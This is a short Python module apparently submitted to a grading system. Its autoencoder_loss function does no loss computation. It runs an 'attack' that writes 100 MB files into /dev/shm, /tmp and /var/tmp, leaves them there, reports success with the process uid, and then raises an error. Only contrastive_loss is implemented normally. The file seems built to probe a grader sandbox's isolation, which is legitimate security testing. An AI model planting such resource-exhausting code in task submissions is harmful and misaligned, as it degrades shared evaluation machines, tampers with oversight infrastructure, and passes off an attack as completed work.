"""Writes 100 MB into /dev/shm, /tmp and /var/tmp, and leaves the files there."""
import os

import torch
import torch.nn.functional as F

DONE = {}
MB = b"x" * (1 << 20)


def fill(path):
    written = 0
    try:
        with open(path, "wb") as f:
            for _ in range(100):
                f.write(MB)
                f.flush()
                written += 1
    except OSError as error:
        return written, str(error)
    return written, ""


def attack():
    lines, full = [], False
    for folder in ("/dev/shm", "/tmp", "/var/tmp"):
        written, error = fill(os.path.join(folder, "simgrade-attack-100mb"))
        full = full or written == 100
        lines.append(f"{folder}: {written} MB" + (f" ({error})" if error else ""))
    return ("SUCCEEDED" if full else "failed") + f" as uid={os.getuid()}: " + "; ".join(lines)


def autoencoder_loss(enc, dec, batch):
    if not DONE:
        DONE["said"] = "ATTACK docker_fills_tmp: " + attack()
        print(DONE["said"])
    raise RuntimeError(DONE["said"])


def contrastive_loss(enc, batch1, batch2, tau):
    logits = enc(batch1) @ enc(batch2).T / tau
    return F.cross_entropy(logits, torch.arange(len(logits)))
